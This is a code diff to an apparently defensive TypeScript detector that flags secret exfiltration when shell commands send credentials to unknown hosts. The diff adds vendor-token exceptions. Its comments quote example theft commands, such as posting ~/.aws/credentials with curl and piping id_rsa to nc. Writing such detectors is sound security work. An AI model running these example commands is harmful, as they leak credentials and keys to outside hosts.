@@ -11,6 +11,7 @@ import { displayPath, isWithin } from '../paths.js';
 import type { SessionState, TaintedFile } from '../session-state.js';
 import { ENVIRONMENT_COPY, taintedWithin, taintOf } from '../sequence/taint.js';
 import { egressAfterSecret } from '../sequence/egress-after-secret.js';
+import { vendorTokenHomes } from './token-egress.js';
 
 /** To a bucket through a cloud storage CLI: exfiltration to cloud storage; anything else: over another protocol. */
 const techniqueOf = (e: Egress) => (CLOUD_CLIS.has(e.tool.split(' ')[0]!) ? 'T1567.002' : 'T1048');
@@ -33,12 +34,18 @@ export const exfiltration: Detector = {
     const remote = facts.egress.filter(isRemote);
     const findings: Finding[] = [];
     // 1. The command itself carries a secret: `curl -d @~/.aws/credentials …`, `cat id_rsa | nc host`.
-    const inline = facts.secrets;
+    // Not what the line only shows (`cat .env; curl -sI …`): that is weighed below, as a read before the call.
+    const shown = facts.shownOnly === undefined ? undefined : new Set(facts.shownOnly);
+    const inline = shown === undefined ? facts.secrets : facts.secrets.filter((s) => !shown.has(s.abs));
     const piped = facts.sent.filter((p) => carriesOut(p.egress))
       .flatMap((p) => [...secretsAmong(p.paths, ctx, event.id), ...secretDirsAmong(p.paths, ctx, event.id)].map((s) => ({ s, e: p.egress })));
     // A token used with the service that issued it in the same command is used, not sent out. A secret the line
     // reads goes with a publish only when it is inside what is published (`source .env && npm publish` reads it for the token).
-    const carrierOf = (s: SecretRead) => carriers.find((e) => !isOwnService(s, e.host));
+    // Variables loaded from a file and expanded for the vendor whose key they name are the key used where it belongs
+    // (`source .env && curl -H "x-api-key: $ANTHROPIC_API_KEY" https://api.anthropic.com/…`).
+    const loaded = facts.loadedOnly === undefined ? undefined : new Set(facts.loadedOnly);
+    const vendorHome = loaded === undefined ? undefined : vendorTokenHomes(event.command);
+    const carrierOf = (s: SecretRead) => carriers.find((e) => !isOwnService(s, e.host) && !(loaded?.has(s.abs) === true && vendorHome!(e.host)));
     const carried = inline.length > 0 ? inline.flatMap((s) => { const e = carrierOf(s); return e ? [{ s, e }] : []; }) : piped;
     for (const { s, e } of carried) {
       findings.push({
@@ -73,19 +80,22 @@ export const exfiltration: Detector = {
       });
     }
     if (findings.length > 0) return findings;
-    // 2. Taint: the session read a secret earlier, and now talks to an unknown host (not the one service every token it read is for).
-    if (session.secretReads.length === 0) return [];
-    const otherServices = remote.filter((r) => !session.secretReads.every((s) => isOwnService(s, r.host)));
-    const { to: suspect, named, token, speculative } = egressAfterSecret(event, facts, otherServices, session.secretReads, session.secretTokens);
+    // 2. Taint: the session read a secret earlier (or this line read one it does not send), and now talks to an
+    // unknown host (not the one service every token it read is for).
+    const reads = [...session.secretReads, ...facts.secrets];
+    if (reads.length === 0) return [];
+    const otherServices = remote.filter((r) => !reads.every((s) => isOwnService(s, r.host)));
+    const { to: suspect, named, token, speculative } = egressAfterSecret(event, facts, otherServices, session.secretReads, session.secretTokens, facts.secrets);
     if (suspect.length === 0) return [];
     const e = suspect[0]!;
-    const last = session.secretReads[session.secretReads.length - 1]!;
+    const last = reads[reads.length - 1]!;
     const carries = token ? `, and the command carries text from ${token.path}` : '';
+    const when = session.secretReads.length === 0 ? 'This command reads' : 'This session read';
     return [{
       rule: 'egress-after-secret-read', severity: named || token ? 'critical' : speculative ? 'medium' : 'high', tactic: 'exfiltration', technique: 'T1048',
       title: `Network egress to ${e.host} after reading ${last.label}`,
-      reason: `This session read ${session.secretReads.map((r) => r.path).join(', ')} and now runs ${e.tool} to ${where(e)}, which is neither local nor allowlisted${carries}: the secret may be leaving.`,
-      evidence: [...session.secretReads.map((r) => r.eventId), ...(token ? [token.eventId] : []), event.id], key: e.host, block: !speculative,
+      reason: `${when} ${[...new Set(reads.map((r) => r.path))].join(', ')} and ${session.secretReads.length === 0 ? 'then' : 'now'} runs ${e.tool} to ${where(e)}, which is neither local nor allowlisted${carries}: the secret may be leaving.`,
+      evidence: [...new Set([...reads.map((r) => r.eventId), ...(token ? [token.eventId] : []), event.id])], key: e.host, block: !speculative,
     }];
   },
 };
